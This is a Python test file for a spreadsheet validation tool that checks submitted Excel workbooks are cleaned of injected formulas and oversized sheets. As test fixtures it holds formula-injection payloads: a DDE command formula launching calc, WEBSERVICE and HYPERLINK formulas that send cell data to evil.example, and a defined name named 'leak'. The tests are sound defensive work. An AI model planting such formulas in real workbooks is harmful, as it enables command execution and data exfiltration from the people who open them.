"""Hostile input, round two (#18): what xlunion writes from a child — marked, stamped and sent
copies — holds no formula xlunion did not write, keeps the figures that were validated, and one
file that is too big for openpyxl costs only itself."""

from __future__ import annotations

import email
import email.policy
import html
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
from helpers import demo_child
from typer.testing import CliRunner

from xlunion.cli import app
from xlunion.layout import HIDDEN_SHEET

runner = CliRunner()
SHEET_PAYLOAD = "=cmd|' calc'!A0"
_F = re.compile(rb"<(?:\w+:)?f\b[^>]*?(?:/>|>(.*?)</(?:\w+:)?f>)", re.S)


def formulas(path: Path | bytes) -> set[str]:
    """The text of every formula element in every part of a workbook (shared children as "")."""
    source = io.BytesIO(path) if isinstance(path, bytes) else path
    with zipfile.ZipFile(source) as zf:
        return {html.unescape((m.group(1) or b"").decode()) for name in zf.namelist() if name.endswith(".xml")
                for m in _F.finditer(zf.read(name))}


def renamed_sheet(defn, src: Path, out: Path, new: str) -> Path:
    """``src`` with the appendix sheet holding a finding renamed to ``new`` (the cell map follows)."""
    from xlunion.layout import layout

    old = layout(defn).cell("DV_NU", "N2025")[0]
    book = openpyxl.load_workbook(src)
    book[old].title = new
    for row in book[HIDDEN_SHEET].iter_rows():
        for c in row:
            if c.value == old:
                c.value = new
                c.data_type = "s"
    book.save(out)
    return out


def attachment(raw: bytes) -> bytes:
    message = email.message_from_bytes(raw, policy=email.policy.default)
    return next(p for p in message.iter_attachments()).get_content()


def test_no_formula_in_any_output_comes_from_child_text(defn, demo, tmp_path):
    # #18.5: a sheet name “=cmd|' calc'!A0” was written into the hidden marks sheet as a formula
    marked = renamed_sheet(defn, demo_child(demo, "CD0105"), tmp_path / "=HYPERLINK(0).xlsx", SHEET_PAYLOAD)
    clean = renamed_sheet(defn, demo_child(demo, "CD0101"), tmp_path / "clean.xlsx", SHEET_PAYLOAD)
    own = formulas(marked) | formulas(clean)  # what xlunion's template wrote, and nothing else
    assert not [f for f in own if "cmd|" in f]
    result = runner.invoke(app, ["validate", "--annotate", str(tmp_path / "out"), str(marked), str(clean)])
    assert result.exit_code == 1, result.output
    stamped = tmp_path / "stamped.xlsx"
    stamped.write_bytes(clean.read_bytes())
    assert runner.invoke(app, ["validate", "--stamp", str(stamped)]).exit_code == 0
    draft = tmp_path / "draft.eml"
    assert runner.invoke(app, ["send", str(clean), "--to", "ct@x.vn", "--draft", str(draft)]).exit_code == 0
    outputs = {"annotated": tmp_path / "out" / marked.name, "annotated clean": tmp_path / "out" / clean.name,
               "stamped": stamped, "sent": attachment(draft.read_bytes())}
    for what, out in outputs.items():
        assert formulas(out) <= own, (what, formulas(out) - own)
    book = openpyxl.load_workbook(outputs["annotated"])
    assert SHEET_PAYLOAD in [c.value for row in book["_xlunion_marks"].iter_rows() for c in row]  # as text


def with_formulas(defn, src: Path, out: Path, cells: dict[tuple[str, str], str]) -> Path:
    """``src`` with raw cell XML ``cells`` {(sheet, A1): '<f>…</f><v>…</v>'} put in place of what is there."""
    from hostile import parts, rezip, set_cell

    from xlunion.io.preflight import preflight

    data = src.read_bytes()
    sheets, members = preflight(src, data).sheets, parts(data)
    for (sheet, ref), body in cells.items():
        kind = ' t="str"' if '<v>' in body and not re.search(r"<v>-?[\d.]+</v>", body) else ""
        members[sheets[sheet]] = set_cell(members[sheets[sheet]], ref, f'<c r="{ref}"{kind}>{body}</c>')
    out.write_bytes(rezip(members))
    return out


def typed_cells(defn, count: int) -> list[tuple[str, str]]:
    """Input cells of the last year, one per indicator typed in."""
    from xlunion.layout import layout

    codes = [i.code for i in defn.indicators.values() if not i.computed][:count]
    return [layout(defn).cell(code, defn.periods[-1].code) for code in codes]


def test_a_typed_formula_keeps_its_value_through_stamp_and_verify(defn, demo, tmp_path):
    # #18.8: openpyxl dropped the cached 94 of “=45+49”: verify said ĐÃ THAY ĐỔI, then “required”
    (where,) = typed_cells(defn, 1)
    child = with_formulas(defn, demo_child(demo, "CD0101"), tmp_path / "mine.xlsx", {where: "<f>45+49</f><v>94</v>"})
    result = runner.invoke(app, ["validate", "--format", "json", str(child)])
    assert json.loads(result.stdout)["files"][0]["status"] == "ok"  # a typed sum is allowed
    assert runner.invoke(app, ["validate", "--in-place", "--stamp", str(child)]).exit_code == 0
    result = runner.invoke(app, ["verify", str(child)])
    assert result.exit_code == 0 and "không thay đổi" in result.output, result.output
    again = json.loads(runner.invoke(app, ["validate", "--format", "json", str(child)]).stdout)["files"][0]
    assert again["status"] == "ok", again["findings"]
    assert openpyxl.load_workbook(child)[where[0]][where[1]].value == 94  # what the officer saw


LIVE = {  # what a child may carry in cells where the template has no formula → its stored value
    "webservice": ('<f>_xlfn.WEBSERVICE("http://evil.example/?d="&amp;\'Thông tin chung\'!C9)</f><v>7</v>', 7),
    "dde": ("<f>cmd|' /C calc'!A0</f><v>0</v>", 0),
    "external": ("<f>[1]Sheet1!A1</f><v>12</v>", 12),
    "hyperlink": ('<f>HYPERLINK("http://evil.example","Bấm")</f><v>5</v>', 5),
    "filterxml": ('<f>_xlfn.FILTERXML("&lt;a&gt;3&lt;/a&gt;","//a")</f><v>3</v>', 3),
}


def test_live_formulas_are_errors_and_only_their_values_reach_any_copy(defn, demo, tmp_path):
    # #18.6: WEBSERVICE, DDE, links into other files … raised nothing and stayed live in every copy
    cells = typed_cells(defn, len(LIVE) + 1)
    bodies = dict(zip(cells, [body for body, _value in LIVE.values()] + ["<f>45+49</f><v>94</v>"], strict=True))
    child = with_formulas(defn, demo_child(demo, "CD0101"), tmp_path / "live.xlsx", bodies)
    result = runner.invoke(app, ["validate", "--format", "json", "--annotate", str(tmp_path / "out"), str(child)])
    found = json.loads(result.stdout)["files"][0]["findings"]
    live = {(f["sheet"], f["cell"]): f for f in found if f["rule"] == "external_formula"}
    assert set(live) == set(cells[:-1]), found  # the typed sum =45+49 is not among them
    for (sheet, cell), f in live.items():
        assert f["severity"] == "error" and f"{sheet}!{cell}" in f["message"] and "bên ngoài tệp" in f["message"]
        assert "_xlfn." not in f["message"]  # the formula as Excel shows it to the officer
    draft = tmp_path / "draft.eml"
    assert runner.invoke(app, ["send", str(child), "--to", "ct@x.vn", "--draft", str(draft), "--force"]).exit_code == 0
    for out in (tmp_path / "out" / child.name, attachment(draft.read_bytes())):
        left = [f for f in formulas(out) if re.search(r"cmd\||WEBSERVICE|FILTERXML|HYPERLINK|\[1\]|45\+49", f)]
        assert not left, left
        book = openpyxl.load_workbook(out if isinstance(out, Path) else io.BytesIO(out))
        shown = [book[s][c].value for s, c in cells]
        assert shown == [value for _body, value in LIVE.values()] + [94]


def test_a_defined_name_reaching_out_is_told_and_left_out_of_copies(defn, demo, tmp_path):
    from openpyxl.workbook.defined_name import DefinedName

    (where,) = typed_cells(defn, 1)
    book = openpyxl.load_workbook(demo_child(demo, "CD0101"))
    book.defined_names["leak"] = DefinedName("leak", attr_text='WEBSERVICE("http://evil.example/?"&A1)')
    book[where[0]][where[1]] = "=leak"
    book.save(tmp_path / "name.xlsx")
    result = runner.invoke(app, ["validate", "--format", "json", "--annotate", str(tmp_path / "out"),
                                 str(tmp_path / "name.xlsx")])
    rules = {f["rule"]: f for f in json.loads(result.stdout)["files"][0]["findings"]}
    assert rules["external_name"]["severity"] == "warning" and "leak" in rules["external_name"]["message"]
    assert (rules["external_formula"]["sheet"], rules["external_formula"]["cell"]) == where  # the cell using it
    assert not [f for f in formulas(tmp_path / "out" / "name.xlsx") if "leak" in f or "WEBSERVICE" in f]
    assert "leak" not in openpyxl.load_workbook(tmp_path / "out" / "name.xlsx").defined_names


def with_big_sheet(src: Path, out: Path, rows: int, cols: int = 10) -> Path:
    """``src`` with an extra sheet of ``rows`` × ``cols`` numbers: xlunion never reads it, so the
    preflight lets it through, but openpyxl holds every cell of it."""
    from hostile import parts, rezip

    p = parts(src.read_bytes())
    letters = [chr(65 + i) for i in range(cols)]
    body = "".join(f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>{r}</v></c>' for c in letters) + "</row>"
                   for r in range(1, rows + 1))
    ns = "http://schemas.openxmlformats.org"
    p["xl/worksheets/sheetBig.xml"] = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{ns}/'
                                      f'spreadsheetml/2006/main"><sheetData>{body}</sheetData></worksheet>').encode()
    p["xl/workbook.xml"] = p["xl/workbook.xml"].replace(
        b"</sheets>", b'<sheet name="Nh\xc3\xa1p" sheetId="99" r:id="rIdBig"/></sheets>')
    p["xl/_rels/workbook.xml.rels"] = p["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", (
        f'<Relationship Id="rIdBig" Type="{ns}/officeDocument/2006/relationships/worksheet" '
        'Target="worksheets/sheetBig.xml"/></Relationships>').encode())
    p["[Content_Types].xml"] = p["[Content_Types].xml"].replace(b"</Types>", (
        b'<Override PartName="/xl/worksheets/sheetBig.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'))
    out.write_bytes(rezip(p))
    return out


def test_a_workbook_too_big_for_openpyxl_costs_only_itself(defn, demo, tmp_path, monkeypatch):
    # #18.2: openpyxl ran in the command's own process, without limits: 80 s and 1.1 GB for one file
    # with an extra sheet of 2 M cells, and the files after it were never written. Here a modest one
    # (600,000 cells: ~14 s for openpyxl here) against a lowered limit of 5 s, ten times what a child takes.
    from xlunion import isolation

    monkeypatch.setattr(isolation, "WRITE_LIMITS", isolation.Limits(seconds=5, per_mb=0, memory_mb=600))
    folder = tmp_path / "in"
    folder.mkdir()
    good = [demo_child(demo, "CD0101"), demo_child(demo, "CD0105")]
    for src in good:
        (folder / src.name).write_bytes(src.read_bytes())
    big = with_big_sheet(demo_child(demo, "CD0102"), folder / "nhap-rat-lon.xlsx", 60_000)
    result = runner.invoke(app, ["validate", "--annotate", str(tmp_path / "out"), str(folder), "--workers", "2"])
    assert result.exit_code == 2, result.output
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(p.name for p in good)
    assert f"{big.name}: không ghi được bản có đánh dấu" in result.stderr and "giây" in result.stderr
    assert "Tổng cộng 3 tệp" in result.stdout  # the table is still printed
    result = runner.invoke(app, ["validate", "--format", "json", "--stamp", str(big)])
    (entry,) = json.loads(result.stdout)["files"]
    assert entry["written"] is None and big.name in entry["notes"][0] and result.exit_code == 2
    result = runner.invoke(app, ["send", str(big), "--to", "ct@x.vn", "--draft", str(tmp_path / "d.eml"), "--force"])
    assert result.exit_code == 2 and big.name in result.output and not (tmp_path / "d.eml").exists()


def test_the_validate_button_marks_within_the_same_limits(demo, tmp_path, monkeypatch):
    # the add-in's button marked the officer's workbook with openpyxl in Excel's own Python, unlimited
    from xlunion import addin, isolation
    from xlunion.excel.adapter import FileWorkbook

    monkeypatch.setattr(isolation, "WRITE_LIMITS", isolation.Limits(seconds=5, per_mb=0, memory_mb=600))
    big = with_big_sheet(demo_child(demo, "CD0105"), tmp_path / "lon.xlsx", 60_000)
    before = big.read_bytes()
    book = FileWorkbook(big)
    addin.validate(book)
    assert big.read_bytes() == before  # not half-marked: untouched
    assert any("lon.xlsx" in m and "giây" in m for m in book.messages), book.messages
